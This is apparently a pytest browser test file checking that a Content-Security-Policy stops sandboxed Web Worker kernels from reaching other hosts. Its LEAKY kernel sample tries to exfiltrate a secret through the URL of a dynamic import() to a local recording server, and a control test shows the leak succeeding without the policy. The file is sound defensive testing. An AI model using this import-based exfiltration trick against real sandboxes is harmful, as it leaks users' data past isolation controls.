"""Kernels run in Web Workers under the worker Content-Security-Policy: whatever a kernel
tries, it can load code from, and send data to, only this server.

The runner takes ``fetch`` and friends away from kernels, but ``import()`` is syntax and
cannot be taken away; a kernel could smuggle its results out in the URL of a module it
imports from another host. The policy the worker script is served with forbids that.
"""

from __future__ import annotations

import hashlib
import threading
from collections.abc import Iterator
from functools import partial
from http.server import BaseHTTPRequestHandler, SimpleHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest

pytestmark = pytest.mark.browser

ROOT = Path(__file__).resolve().parents[2]

# Tries to load a module from another host, the secret in its URL.
LEAKY = """
export async function run({ elsewhere }) {
  try { await import(elsewhere + "/import.js?secret=42"); return "loaded"; }
  catch (e) { return "refused"; }
}
"""

RUN_TASK = """
async ({ task }) => new Promise((resolve) => {
  const worker = new Worker("/static/socialgrid/worker/runner.js", { type: "module" });
  worker.onerror = (event) => resolve({ crash: event.message });
  worker.onmessage = ({ data }) => {
    if ("progress" in data) return;
    worker.terminate();
    resolve(data);
  };
  worker.postMessage({ task, share: 1 });
})
"""


class QuietFiles(SimpleHTTPRequestHandler):
    def log_message(self, format: str, *args: Any) -> None:
        pass


class Recorder(BaseHTTPRequestHandler):
    seen: list[str]

    def do_GET(self) -> None:
        self.seen.append(self.path)
        self.send_response(200)
        self.send_header("Content-Type", "text/javascript")
        self.send_header("Access-Control-Allow-Origin", "*")
        self.end_headers()
        self.wfile.write(b"export const x = 1;")

    def log_message(self, format: str, *args: Any) -> None:
        pass


@pytest.fixture
def elsewhere() -> Iterator[tuple[str, list[str]]]:
    """Another host (another port) that records every request it gets."""
    seen: list[str] = []
    handler = type("Recording", (Recorder,), {"seen": seen})
    server = ThreadingHTTPServer(("127.0.0.1", 0), handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield f"http://127.0.0.1:{server.server_port}", seen
    server.shutdown()
    server.server_close()


async def run_leaky(browser, origin: str, kernel: dict[str, str], elsewhere: str) -> Any:
    context = await browser.new_context()
    try:
        page = await context.new_page()
        await page.goto(origin + "/")
        app = {**kernel, "wasm_url": None, "wasm_sha256": None}
        task = {"app": app, "input": {"elsewhere": elsewhere}}
        return await page.evaluate(RUN_TASK, {"task": task})
    finally:
        await context.close()


@pytest.mark.asyncio(loop_scope="module")
async def test_a_kernel_can_reach_no_other_host(platforms, browser, elsewhere):
    url, seen = elsewhere
    platform = platforms("policy")
    kernel = platform.call("install_kernel", slug="leaky", source=LEAKY)
    platform.start()

    reply = await run_leaky(browser, platform.base_url, kernel, url)

    assert reply.get("result") == "refused", reply
    assert seen == []


@pytest.mark.asyncio(loop_scope="module")
async def test_without_the_policy_the_same_kernel_would_leak(browser, elsewhere, tmp_path):
    """The control: the runner and kernel served by a plain static server, no policy."""
    url, seen = elsewhere
    (tmp_path / "static").symlink_to(ROOT / "static")
    (tmp_path / "index.html").write_text("<!doctype html><title>no policy</title>")
    (tmp_path / "leaky.js").write_text(LEAKY)
    server = ThreadingHTTPServer(("127.0.0.1", 0), partial(QuietFiles, directory=str(tmp_path)))
    threading.Thread(target=server.serve_forever, daemon=True).start()
    try:
        kernel = {
            "kernel_url": "/leaky.js",
            "kernel_sha256": hashlib.sha256(LEAKY.encode()).hexdigest(),
        }
        reply = await run_leaky(browser, f"http://127.0.0.1:{server.server_port}", kernel, url)
    finally:
        server.shutdown()
        server.server_close()

    assert reply.get("result") == "loaded", reply
    assert seen == ["/import.js?secret=42"]
